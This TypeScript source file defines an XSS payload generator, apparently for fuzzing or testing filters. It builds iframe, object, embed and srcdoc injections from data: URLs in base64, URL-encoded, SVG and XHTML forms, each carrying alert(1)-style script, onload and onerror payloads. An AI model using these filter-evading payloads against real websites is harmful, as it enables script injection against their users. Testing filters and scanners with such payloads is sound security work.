import { xssGenerator } from '../xss-generator.js';

const encode = (text: string): string => Buffer.from(text).toString('base64');
const DOCUMENTS = [
  '<script>alert(1)</script>',
  '<svg onload=alert(1)>',
  '<script>parent.alert(1)</script>',
  '<img src=x onerror=alert(1)>',
];

/** Whole documents inside a URL or an attribute. */
export const dataUrl = xssGenerator({
  name: 'data-url',
  rules: {
    start: [
      '{open}<iframe src={document}>',
      '{open}<iframe src={document}></iframe>',
      '{open}<object data={document}>',
      '{open}<embed src={document}>',
      '{open}<iframe srcdoc={inline}>',
      '{open}<iframe srcdoc={inline}></iframe>',
      '{open}<IFRAME/SRCDOC={inline}>',
    ],
    document: [
      'data:text/html;base64,{base64}',
      '"data:text/html,<script>{dialog}({digit})</script>"',
      'data:text/html,%3Cscript%3E{dialog}(1)%3C/script%3E',
      "'data:text/html;charset=utf-8,<svg onload={bare}>'",
      'DATA:text/html;BASE64,{base64}',
      "\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{bare}'/>\"",
      '"data:text/html;x,<body onload={dialog}(1)>"',
      'data:application/xhtml+xml;base64,PHNjcmlwdCB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMTk5OS94aHRtbCI+YWxlcnQoMSk8L3NjcmlwdD4=',
      '"data: text/html ,<script>{dialog}(1)</script>"',
    ],
    base64: (random) => encode(random.pick(DOCUMENTS)),
    inline: [
      '"<script>{dialog}({digit})</script>"',
      "'<script>{bare}</script>'",
      '"&lt;script&gt;{script}&lt;/script&gt;"',
      '"&#60;svg onload={bare}&#62;"',
      "'<img src=x onerror={bare}>'",
      '<svg/onload={bare}>',
      '&lt;script&gt;{bare}&lt;/script&gt;',
      '"<body onload={bare}>"',
      '"&#x3C;img src=x onerror={bare}&#x3E;"',
    ],
  },
});
